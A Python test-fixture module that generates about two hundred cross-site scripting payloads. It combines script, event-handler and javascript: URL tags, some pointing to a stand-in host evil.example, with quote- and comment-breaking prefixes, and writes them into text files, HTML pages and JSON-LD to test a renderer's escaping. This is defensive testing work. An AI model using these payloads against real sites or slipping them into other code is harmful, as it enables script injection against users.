"""A pile made to attack whoever shows it: markup and script wherever a document brings words of its own."""

from __future__ import annotations

import json
from pathlib import Path

_RUN = "window.onrecordHit=1,alert(1)"
_TAGS = (
    "<script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style><script>{run}</script>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<body onload={run}>",
    "<iframe srcdoc='<script>{run}</script>'>",
    "<a href=javascript:{run}>x</a>",
    "<form action=javascript:{run}><button autofocus>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}>",
    "<math><mtext><script>{run}</script></mtext></math>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=javascript:{run}>",
    "<embed src=javascript:{run}>",
    "<marquee onstart={run}>x</marquee>",
    "<select autofocus onfocus={run}>",
    "<audio src=x onerror={run}>",
    "<p style=animation-name:x onanimationstart={run}>",
    "<table background=javascript:{run}>",
    "<div contenteditable autofocus onfocus={run} tabindex=1>x</div>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<style>*{{background:url(//evil.example/)}}</style>",
)
_BREAKS = (
    "{tag}",
    '">{tag}',
    "'>{tag}",
    "-->{tag}",
    "]]>{tag}",
    '" onmouseover="{run}" x="',
    "' autofocus onfocus='{run}' x='",
    "javascript:{run}",
    "{{{{7*7}}}}{tag}",
    "${{{run}}}{tag}",
)
PAYLOADS = tuple(
    dict.fromkeys(break_.format(tag=tag.format(run=_RUN), run=_RUN) for tag in _TAGS for break_ in _BREAKS)
)
"""About two hundred, all different."""
_EACH = 20


def hostile_pile(folder: Path) -> None:
    """Write documents that carry every payload in titles, names, quotes, outlets, file names and JSON-LD."""
    folder.mkdir()
    for number in range(0, len(PAYLOADS), _EACH):
        some = PAYLOADS[number : number + _EACH]
        name = some[0].replace("/", "_")[:80]
        (folder / f"{number:03} {name}.txt").write_text(_text(some), "utf-8")
        (folder / f"{number:03}.html").write_text(_page(some), "utf-8")


def _text(payloads: tuple[str, ...]) -> str:
    said = "\n\n".join(f'"We will hold the gates {p}," said Ada {p} Quill of {p}.' for p in payloads)
    head = f"{payloads[0]} gates held\n\nBy {payloads[1]}, {payloads[2]}"
    return f"{head}\n\n{said}\n\nAda {payloads[3]}: Yes. {payloads[4]}\n"


def _page(payloads: tuple[str, ...]) -> str:
    facts = {
        "@context": "https://schema.org",
        "@type": "NewsArticle",
        "headline": payloads[0],
        "author": {"@type": "Person", "name": payloads[1]},
        "publisher": {"@type": "Organization", "name": payloads[2]},
        "url": f"javascript:{payloads[3]}",
        "articleSection": payloads[4],
        "keywords": [payloads[5]],
    }
    data = json.dumps(facts).replace("</", "<\\/")
    escaped = [p.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;") for p in payloads]
    said = "".join(f"<p>“We will hold the gates {p},” said Ada Quill {p}.</p>" for p in escaped)
    return (
        f'<html><head><title>{escaped[0]}</title><meta property="og:site_name" content="{escaped[2]}">'
        f'<meta property="og:url" content="javascript:{escaped[3]}">'
        f'<script type="application/ld+json">{data}</script></head>'
        f"<body><article><h1>{escaped[0]}</h1>{said}</article></body></html>"
    )
